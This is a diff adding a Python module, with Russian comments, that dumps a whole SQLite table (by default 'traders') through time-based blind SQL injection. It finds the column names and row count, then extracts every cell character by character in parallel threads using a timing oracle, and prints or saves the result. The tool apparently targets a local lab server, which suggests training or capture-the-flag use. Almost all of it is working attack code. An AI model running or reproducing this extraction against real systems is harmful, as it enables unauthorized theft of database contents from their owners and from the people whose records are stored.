@@ -0,0 +1,174 @@
+import json
+import time
+import concurrent.futures
+from typing import Dict, List, Optional
+
+from attack import HFTSQLiAttack
+from instrumentation import ShardedCounter
+
+
+class TableDumper:
+    """
+    Дамп всей таблицы через тот же timing-оракул. Каждая ячейка - скалярный
+    SQL подзапрос; сначала параллельно ищутся длины всех ячеек, затем
+    параллельно извлекаются все символы. Одновременных цепочек проверок не
+    больше concurrency, калибровка оракула одна на весь дамп.
+    """
+
+    def __init__(self, attack: HFTSQLiAttack, table: str = 'traders',
+                 columns: Optional[List[str]] = None, concurrency: int = 8,
+                 max_length: int = 256):
+        self.attack = attack
+        self.table = table
+        self.columns = columns
+        self.concurrency = concurrency
+        self.max_length = max_length
+        # Проверки длин и счетчиков строк; символы считает attack.char_probes
+        self.probes = ShardedCounter()
+
+    def test(self, condition: str) -> bool:
+        self.probes.add()
+        return self.attack.test_condition(condition, samples=5)
+
+    def search_integer(self, expr: str, upper: int) -> int:
+        """Значение целого выражения: экспоненциальный рост границы и бисекция"""
+        if not self.test(f"{expr} >= 1"):
+            return 0
+
+        low, high = 1, 2
+        while high <= upper and self.test(f"{expr} >= {high}"):
+            low, high = high, high * 2
+        high = min(high, upper + 1)
+
+        # Инвариант: expr >= low и expr < high
+        while high - low > 1:
+            mid = (low + high) // 2
+            if self.test(f"{expr} >= {mid}"):
+                low = mid
+            else:
+                high = mid
+        return low
+
+    def cell_expr(self, column: str, row: int) -> str:
+        return (f"(SELECT CAST({column} AS TEXT) FROM {self.table} "
+                f"ORDER BY rowid LIMIT 1 OFFSET {row})")
+
+    def discover_columns(self) -> List[str]:
+        count = self.search_integer(f"(SELECT COUNT(*) FROM pragma_table_info('{self.table}'))", 64)
+        exprs = [f"(SELECT name FROM pragma_table_info('{self.table}') LIMIT 1 OFFSET {i})"
+                 for i in range(count)]
+        return self.extract_strings(exprs)
+
+    def extract_strings(self, exprs: List[str]) -> List[str]:
+        with concurrent.futures.ThreadPoolExecutor(max_workers=self.concurrency) as executor:
+            lengths = list(executor.map(
+                lambda expr: self.search_integer(f"LENGTH({expr})", self.max_length), exprs
+            ))
+
+            tasks = [(i, pos) for i, length in enumerate(lengths) for pos in range(1, length + 1)]
+            chars = executor.map(lambda task: self.attack.search_char(task[1], exprs[task[0]]), tasks)
+
+            values = [[''] * length for length in lengths]
+            for (i, pos), char in zip(tasks, chars):
+                values[i][pos - 1] = char or '?'
+
+        return [''.join(v) for v in values]
+
+    def dump(self) -> Dict:
+        start = time.time()
+
+        columns = self.columns
+        if not columns:
+            print(f" Определение колонок {self.table}...")
+            columns = self.discover_columns()
+        print(f"  Колонки: {', '.join(columns)}")
+
+        rows = self.search_integer(f"(SELECT COUNT(*) FROM {self.table})", 1 << 20)
+        print(f"  Строк: {rows}")
+
+        cells = [(row, column) for row in range(rows) for column in columns]
+        values = self.extract_strings([self.cell_expr(column, row) for row, column in cells])
+
+        table = [dict(zip(columns, values[r * len(columns):(r + 1) * len(columns)]))
+                 for r in range(rows)]
+
+        chars = sum(len(v) for v in values)
+        return {
+            'table': self.table,
+            'columns': columns,
+            'rows': table,
+            'cells': len(cells),
+            'chars': chars,
+            'probes': self.probes.value() + sum(self.attack.char_probes),
+            'requests': self.attack.request_count,
+            'elapsed_s': time.time() - start,
+        }
+
+
+def print_dump(result: Dict):
+    columns = result['columns']
+    widths = [max([len(c)] + [len(row[c]) for row in result['rows']]) for c in columns]
+
+    print("=" * 80)
+    print(f" ДАМП ТАБЛИЦЫ {result['table']}")
+    print("=" * 80)
+    print(' ' + ' | '.join(c.ljust(w) for c, w in zip(columns, widths)))
+    print(' ' + '-+-'.join('-' * w for w in widths))
+    for row in result['rows']:
+        print(' ' + ' | '.join(row[c].ljust(w) for c, w in zip(columns, widths)))
+    print("=" * 80)
+    print(f" Ячеек: {result['cells']}, символов: {result['chars']}")
+    print(f" Проверок: {result['probes']}, запросов: {result['requests']}")
+    if result['chars']:
+        print(f" Запросов на символ: {result['requests'] / result['chars']:.2f}")
+    print(f" Время: {result['elapsed_s']:.2f} с")
+    print("=" * 80)
+
+
+def run_dump(attack: HFTSQLiAttack, table: str = 'traders', columns: Optional[List[str]] = None,
+             concurrency: int = 8, json_path: Optional[str] = None) -> Dict:
+    # RTT при параллельных проверках включает ожидание за соседними
+    # запросами, а порог RTT-оракула калибруется последовательно: с ним,
+    # как и без надежного оракула, дамп идет последовательно
+    attack.oracle_mode = attack.oracle_mode or 'auto'
+    attack.setup_oracle()
+    if attack.oracle is None or attack.oracle.name == 'rtt':
+        print(f" Оракул {attack.oracle.name if attack.oracle else 'не найден'}: "
+              f"проверки по RTT, последовательно")
+        concurrency = 1
+    result = TableDumper(attack, table, columns, concurrency).dump()
+    print_dump(result)
+
+    if json_path:
+        with open(json_path, 'w') as f:
+            json.dump(result, f, indent=2, ensure_ascii=False)
+    return result
+
+
+def main():
+    import argparse
+    from charmodel import CharModel
+
+    parser = argparse.ArgumentParser(description="Дамп таблицы лабораторного сервера через timing-оракул")
+    parser.add_argument('base_url', nargs='?', default="http://127.0.0.1:8888")
+    parser.add_argument('--table', default='traders')
+    parser.add_argument('--columns', help="через запятую; по умолчанию определяются через pragma_table_info")
+    parser.add_argument('--concurrency', type=int, default=8, help="общий бюджет параллельных проверок")
+    parser.add_argument('--oracle', default='auto')
+    parser.add_argument('--charmodel', default='builtin')
+    parser.add_argument('--raw', action='store_true')
+    parser.add_argument('--json', dest='json_path')
+    args = parser.parse_args()
+
+    attack = HFTSQLiAttack(
+        args.base_url,
+        transport="raw" if args.raw else "requests",
+        oracle=args.oracle,
+        char_model=CharModel.load(args.charmodel)
+    )
+    columns = args.columns.split(',') if args.columns else None
+    run_dump(attack, args.table, columns, args.concurrency, args.json_path)
+
+
+if __name__ == "__main__":
+    main()